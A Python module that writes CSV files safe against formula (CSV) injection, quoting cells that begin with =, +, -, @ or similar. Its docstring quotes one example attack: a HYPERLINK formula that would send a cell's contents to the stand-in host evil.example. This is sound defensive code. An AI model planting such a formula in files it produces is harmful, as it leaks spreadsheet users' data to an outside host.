"""CSV files safe to open in a spreadsheet: no cell is read as a formula.

A client name such as ``=HYPERLINK("http://evil.example/?d="&A3,"Open")`` in a
CSV the analyst opens in Excel or LibreOffice becomes a live formula (CSV
injection). Following OWASP's guidance, every text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return — or their full-width
forms ``＝ ＋ － ＠`` — is prefixed with a single quote, so the spreadsheet shows
it as text. Numbers stay numbers: a number (``-3``, ``-0.25``, ``1e-3``,
written as a number or as text) is left as it is, since a spreadsheet reads it
as a number and never as a formula.

Every CSV the kit writes goes through :func:`write_csv` (or :func:`safe_rows`).
"""

from __future__ import annotations

import csv
import io
import math
import numbers
import re

__all__ = ["safe_cell", "safe_rows", "write_csv", "frame_to_csv"]

#: First characters that make a spreadsheet read a cell as a formula (or a DDE call).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """``value`` made safe for a spreadsheet cell (see the module docstring).

    Examples
    --------
    >>> safe_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> safe_cell("-12.5"), safe_cell(-3), safe_cell("@SUM(A1)"), safe_cell("Acme")
    ('-12.5', -3, "'@SUM(A1)", 'Acme')
    """
    if value is None or isinstance(value, bool | numbers.Number):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_rows(rows):
    """Each row of ``rows`` with every cell passed through :func:`safe_cell`."""
    for row in rows:
        yield [safe_cell(v) for v in row]


def write_csv(header, rows, path=None) -> str:
    """The CSV text of ``header`` and ``rows`` with every cell made safe; written to ``path``.

    Parameters
    ----------
    header : sequence of str
    rows : iterable of sequences
    path : str or Path, optional
        When given, the text is written there atomically.

    Returns
    -------
    str
        The CSV text (``\\n`` line ends, minimal quoting).
    """
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerows(safe_rows([header]))
    w.writerows(safe_rows(rows))
    text = buf.getvalue()
    if path is not None:
        from socialkit.report.build import atomic_write

        atomic_write(path, text)
    return text


def frame_to_csv(frame, path=None) -> str:
    """A DataFrame as safe CSV (no index; missing values as empty cells); see :func:`write_csv`."""
    rows = (
        ["" if (isinstance(v, float) and math.isnan(v)) or v is None else v for v in row]
        for row in frame.astype(object).where(frame.notna(), None).itertuples(index=False)
    )
    return write_csv([str(c) for c in frame.columns], rows, path)
